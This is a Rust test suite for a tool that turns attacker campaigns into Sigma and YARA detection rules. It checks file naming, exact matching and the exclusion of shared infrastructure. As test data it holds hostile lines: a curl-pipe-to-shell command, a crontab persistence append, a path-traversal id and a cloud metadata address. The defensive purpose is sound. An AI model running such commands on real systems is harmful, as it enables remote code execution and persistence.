//! Packs of rules that are made from campaigns. That our own checker accepts them is tested with
//! the program (`crates/lazaret/tests/campaign.rs`).
#![allow(clippy::unwrap_used)]

mod common;

use std::collections::BTreeSet;

use common::campaigns::{self, KEY, WALLET};
use lazaret_model::{Campaign, IndicatorKind};
use lazaret_report::{CampaignFormat, campaign_pack};

fn packs(campaign: &Campaign) -> Vec<(String, String)> {
    [CampaignFormat::Sigma, CampaignFormat::Yara]
        .into_iter()
        .flat_map(|format| campaign_pack(campaign, format).unwrap())
        .map(|file| (file.name, file.text))
        .collect()
}

#[test]
fn only_packs_of_rules_are_folders() {
    for format in CampaignFormat::ALL {
        let pack = campaign_pack(&campaigns::lineup(), format);
        let rules = matches!(format, CampaignFormat::Sigma | CampaignFormat::Yara);
        assert_eq!(pack.is_some(), rules, "{format}");
    }
}

#[test]
fn names_of_rule_files_are_plain_whatever_the_campaign_is_called() {
    for mut campaign in [campaigns::lineup(), campaigns::tricky()] {
        for id in
            [campaign.id.clone(), "../../etc/x".to_owned(), campaigns::HOSTILE.to_owned(), String::new()]
        {
            campaign.id = id;
            let files = packs(&campaign);
            assert!(!files.is_empty());
            for (name, _) in files {
                let (stem, ending) = name.rsplit_once('.').unwrap();
                assert!(["yml", "yar"].contains(&ending), "{name}");
                let plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-';
                assert!(stem.chars().all(plain) && stem.len() < 120 && !stem.starts_with('-'), "{name}");
            }
        }
    }
}

#[test]
fn both_packs_may_lie_in_one_folder() {
    for campaign in [campaigns::lineup(), campaigns::tricky()] {
        let files = packs(&campaign);
        let stems: BTreeSet<&str> = files.iter().map(|(name, _)| name.rsplit_once('.').unwrap().0).collect();
        assert_eq!(stems.len(), files.len(), "the name without ending is the rule's: {stems:?}");
    }
}

#[test]
fn what_only_begins_like_an_address_of_the_actor_is_another_ones() {
    let mut campaign = campaigns::lineup();
    let url = campaign.shared.iter().find(|s| s.indicator.kind == IndicatorKind::Url).unwrap().clone();
    for value in ["http://203.0.113.4", "http://x_y-z.invalid/a?b=c"] {
        let mut one = url.clone();
        one.indicator.value = value.to_owned();
        campaign.shared.push(one);
    }
    for (name, text) in packs(&campaign).into_iter().filter(|(name, _)| name.contains("contact")) {
        assert!(!text.contains("|contains"), "{name}: {text}");
        for term in text.lines().map(str::trim).filter(|line| line.starts_with("$s")) {
            assert!(term.ends_with("])/"), "{name}: {term}");
        }
        let ended = ["\\.4($|[^", "\\\\.4($|[^"];
        assert!(
            name.ends_with("-contact.yml") || ended.iter().any(|end| text.contains(end)),
            "{name}: {text}"
        );
    }
}

#[test]
fn lines_of_scripts_are_looked_for_as_they_are_written() {
    let mut campaign = campaigns::lineup();
    let shown = ["curl -fsS http://a.invalid/one | sh -s", "echo \"* * * * * root x\" >> /mnt/etc/crontab"];
    for member in &mut campaign.members {
        member.lines = shown.map(str::to_owned).to_vec();
    }
    let pack = campaign_pack(&campaign, CampaignFormat::Yara).unwrap();
    let script = pack.iter().find(|file| file.name.contains("script")).unwrap();
    assert!(script.text.contains("$s0 = \"curl -fsS http://a.invalid/one | sh -s\""), "{}", script.text);
    assert!(!script.text.contains("<-"), "how evidence is told is in no file: {}", script.text);
}

#[test]
fn what_has_no_strict_form_never_becomes_a_rule() {
    assert_eq!(packs(&campaigns::hostile()), []);
    assert_eq!(packs(&Campaign::default()), []);
}

#[test]
fn what_others_hold_and_what_everybody_uses_never_becomes_a_rule() {
    let text: String = packs(&campaigns::lineup()).into_iter().map(|(_, text)| text).collect();
    assert!(text.contains(WALLET) && text.contains(KEY.split(' ').nth(1).unwrap()));
    let outside_of_lines: String = packs(&campaigns::lineup())
        .into_iter()
        .filter(|(name, _)| !name.contains("script"))
        .map(|(_, text)| text)
        .collect();
    assert!(!outside_of_lines.contains("xmr.pool-eu.test"), "three others use this pool");
    let text: String = packs(&campaigns::tricky()).into_iter().map(|(_, text)| text).collect();
    for absent in ["githubusercontent", "169.254.169.254", "a*/b", "POOL="] {
        assert!(!text.contains(absent), "{absent}");
    }
    for present in ["x_y-z.invalid", "a.worker-1@mail+x", "198.51.100.77"] {
        assert!(text.contains(present) || text.contains(&present.replace('.', "\\\\.")), "{present}");
    }
    assert!(!text.contains("\"https://github.com\""));
}

#[test]
fn no_example_can_be_ended_by_what_it_quotes() {
    for campaign in [campaigns::lineup(), campaigns::tricky(), campaigns::large(60)] {
        for file in campaign_pack(&campaign, CampaignFormat::Yara).unwrap() {
            assert_eq!(file.text.matches("/*").count(), 2, "{}", file.text);
            assert_eq!(file.text.matches("*/").count(), 2, "{}", file.text);
            assert_eq!(file.text.matches("\nrule ").count() + usize::from(file.text.starts_with("rule ")), 1);
        }
    }
}

#[test]
fn a_pack_that_is_cut_says_how_much_is_missing() {
    let says = |campaign: &Campaign| {
        let packs = packs(campaign);
        packs.iter().filter(|(_, text)| text.contains(" more of its indicators are left out")).count()
    };
    let mut campaign = campaigns::lineup();
    assert_eq!(says(&campaign), 0);
    let wallet = campaign.shared.iter().find(|s| s.indicator.value.contains(WALLET)).unwrap().clone();
    for n in 0..250 {
        let mut one = wallet.clone();
        one.indicator.value = format!("xmr:{WALLET}{n:03}");
        campaign.shared.push(one);
    }
    assert_eq!(says(&campaign), packs(&campaign).len());
}

#[test]
fn an_address_at_a_host_of_many_is_looked_for_whole() {
    let text: String = packs(&campaigns::tricky()).into_iter().map(|(_, text)| text).collect();
    let whole = "https\\:\\/\\/github\\.com\\/someone\\/tool($|[^A-Za-z0-9._~%-])";
    // In a scalar of YAML a backslash is two.
    assert!(text.contains(&format!("/{whole}/")) && text.contains(&whole.replace('\\', "\\\\")), "{text}");
    assert!(!text.contains("\"https://github.com/someone/tool\""), "someone/toolbox is another's");
}
